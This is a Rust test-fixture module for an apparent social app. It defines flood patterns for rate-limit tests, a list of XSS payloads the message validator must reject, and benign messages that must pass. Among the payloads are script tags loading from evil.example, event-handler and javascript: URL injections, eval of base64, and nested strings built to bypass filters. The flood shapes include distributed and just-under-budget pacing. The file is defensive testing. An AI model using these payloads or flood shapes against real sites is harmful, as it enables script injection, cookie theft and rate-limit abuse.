// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: PMPL-1.0-or-later

//! Abuse patterns: flood shapes and hostile message payloads.

use std::time::Duration;

/// Flood pattern configuration.
#[derive(Debug, Clone)]
pub struct AttackConfig {
    /// Total number of requests to send
    pub total_requests: usize,
    /// Simulated gap between consecutive requests
    pub spacing: Duration,
    /// Number of distinct viewers the requests rotate through
    pub unique_viewers: usize,
}

impl Default for AttackConfig {
    fn default() -> Self {
        Self {
            total_requests: 100,
            spacing: Duration::from_millis(100),
            unique_viewers: 1,
        }
    }
}

/// Predefined flood patterns.
impl AttackConfig {
    /// One viewer hammering the like button.
    pub fn single_viewer_flood() -> Self {
        Self {
            total_requests: 200,
            spacing: Duration::from_millis(10),
            unique_viewers: 1,
        }
    }

    /// Many viewers, each staying under its own budget.
    pub fn distributed_flood() -> Self {
        Self {
            total_requests: 500,
            spacing: Duration::from_millis(1),
            unique_viewers: 100,
        }
    }

    /// One viewer pacing itself just under the like budget.
    pub fn slow_drip() -> Self {
        Self {
            total_requests: 100,
            spacing: Duration::from_millis(3_100),
            unique_viewers: 1,
        }
    }

    /// Sustained flood spanning several windows.
    pub fn sustained_flood() -> Self {
        Self {
            total_requests: 600,
            spacing: Duration::from_millis(500),
            unique_viewers: 1,
        }
    }

    /// Simulated span of the whole flood.
    pub fn span(&self) -> Duration {
        self.spacing * self.total_requests.saturating_sub(1) as u32
    }
}

/// How a payload tries to get script into the page.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Vector {
    ScriptTag,
    EmbeddedFrame,
    EventHandler,
    SchemeUrl,
    ApiCall,
    /// Split so that stripping one construct rebuilds another
    Nested,
}

/// A hostile message.
#[derive(Debug, Clone, Copy)]
pub struct Payload {
    pub input: &'static str,
    pub vector: Vector,
}

const fn payload(input: &'static str, vector: Vector) -> Payload {
    Payload { input, vector }
}

/// Messages the validator must refuse.
pub fn xss_payloads() -> Vec<Payload> {
    vec![
        payload("<script>alert('x')</script>", Vector::ScriptTag),
        payload("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", Vector::ScriptTag),
        payload("hi <script\n>fetch('/steal')</script\n> there", Vector::ScriptTag),
        payload("<script>unterminated", Vector::ScriptTag),
        payload("<iframe src=\"//evil.example\"></iframe>", Vector::EmbeddedFrame),
        payload("<object data=x.swf></object>", Vector::EmbeddedFrame),
        payload("<embed src=x.swf></embed>", Vector::EmbeddedFrame),
        payload("<img src=x onerror=steal()>", Vector::EventHandler),
        payload("<body ONLOAD = 'go()'>", Vector::EventHandler),
        payload("<a href=# onmouseover=\"x\">hover</a>", Vector::EventHandler),
        payload("click javascript:void(0)", Vector::SchemeUrl),
        payload("<a href=\"JaVaScRiPt:go()\">me</a>", Vector::SchemeUrl),
        payload("eval (atob('YWxlcnQoMSk='))", Vector::ApiCall),
        payload("send document.cookie home", Vector::ApiCall),
        payload("window.open('x')", Vector::ApiCall),
        payload("location.href='//evil.example'", Vector::ApiCall),
        payload("alert(1)", Vector::ApiCall),
        payload("confirm ('sure?')", Vector::ApiCall),
        payload("prompt('password')", Vector::ApiCall),
        payload("<scr<script>x</script>ipt>go()</script>", Vector::Nested),
        payload("javajavascript:script:go()", Vector::Nested),
    ]
}

/// Messages that resemble attacks but must be accepted unchanged.
pub fn benign_messages() -> Vec<&'static str> {
    vec![
        "Feeling great today!",
        "Don't worry, be happy :)",
        "The reason = I finally slept",
        "Scripts for the play are done",
        "I <3 my cat",
        "5 > 3 and 2 < 4",
        "my documents folder is a mess",
        "Evaluating my options",
        "日本語のメッセージ 😀",
    ]
}
